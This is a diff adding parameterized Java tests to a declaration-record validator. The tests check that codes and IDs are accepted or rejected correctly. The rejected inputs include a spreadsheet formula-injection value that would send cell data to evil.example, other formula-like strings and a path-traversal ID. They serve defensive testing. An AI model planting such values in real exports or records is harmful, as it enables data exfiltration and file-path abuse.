@@ -34,6 +34,24 @@ class DeclarationValidatorTest {
         assertThat(validator.validate(valid())).isInstanceOf(DeclarationValidator.Valid.class);
     }
 
+    static Stream<Arguments> wellFormed() {
+        return Stream.of(
+                Arguments.of("a series this rules version does not know", (Consumer<ObjectNode>) n -> n.put("series", "SPACE_MINING_2")),
+                Arguments.of("an ID of 64 characters", (Consumer<ObjectNode>) n -> n.put("declarationId", "G" + "x".repeat(62) + "-")),
+                Arguments.of("an ID with an underscore", (Consumer<ObjectNode>) n -> n.put("declarationId", "GX_2022-1")),
+                Arguments.of("a region code of digits", (Consumer<ObjectNode>) n -> n.putObject("employer").put("name", "崇左市人民医院")
+                        .put("regionCode", "451402")));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("wellFormed")
+    void keepsWellFormedCodesAndIds(String what, Consumer<ObjectNode> change) throws Exception {
+        ObjectNode item = valid();
+        change.accept(item);
+
+        assertThat(validator.validate(item)).isInstanceOf(DeclarationValidator.Valid.class);
+    }
+
     static Stream<Arguments> invalid() {
         return Stream.of(
                 Arguments.of("missing level", (Consumer<ObjectNode>) n -> n.remove("level"), "level: required"),
@@ -48,7 +66,28 @@ class DeclarationValidatorTest {
                         (Consumer<ObjectNode>) n -> ((ObjectNode) n.get("workHistory").get(0)).remove("from"),
                         "workHistory[0].from: required"),
                 Arguments.of("malformed month", (Consumer<ObjectNode>) n -> ((ObjectNode) n.get("workHistory").get(0)).put("from", "2015-13"),
-                        "workHistory[0].from"));
+                        "workHistory[0].from"),
+                Arguments.of("series a spreadsheet formula",
+                        (Consumer<ObjectNode>) n -> n.put("series", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+                        "series: '=HYPERLINK(\"http://evil.example/?\"&A1,\"x…' is not a code"),
+                Arguments.of("series in lower case", (Consumer<ObjectNode>) n -> n.put("series", "engineering"),
+                        "series: 'engineering' is not a code"),
+                Arguments.of("series not text", (Consumer<ObjectNode>) n -> n.putObject("series"), "series: '' is not a code"),
+                Arguments.of("level with a formula", (Consumer<ObjectNode>) n -> n.put("level", "-1+1"), "level: '-1+1' is not a code"),
+                Arguments.of("category with a space", (Consumer<ObjectNode>) n -> n.put("category", "PUBLIC INSTITUTION"),
+                        "category: 'PUBLIC INSTITUTION' is not a code"),
+                Arguments.of("current title series", (Consumer<ObjectNode>) n -> n.putObject("currentTitle").put("series", "@SUM(A1)"),
+                        "currentTitle.series: '@SUM(A1)' is not a code"),
+                Arguments.of("region code with a tab", (Consumer<ObjectNode>) n -> n.putObject("employer").put("name", "崇左市人民医院")
+                        .put("regionCode", "\t451402"), "employer.regionCode"),
+                Arguments.of("declaration ID with a slash", (Consumer<ObjectNode>) n -> n.put("declarationId", "GX2022/../x"),
+                        "declarationId: not a declaration ID"),
+                Arguments.of("declaration ID of 65 characters", (Consumer<ObjectNode>) n -> n.put("declarationId", "G".repeat(65)),
+                        "declarationId: not a declaration ID"),
+                Arguments.of("declaration ID with a space", (Consumer<ObjectNode>) n -> n.put("declarationId", "GX2022 1"),
+                        "declarationId: not a declaration ID"),
+                Arguments.of("declaration ID a number", (Consumer<ObjectNode>) n -> n.put("declarationId", 20220001),
+                        "declarationId: not a declaration ID"));
     }
 
     @ParameterizedTest(name = "{0}")
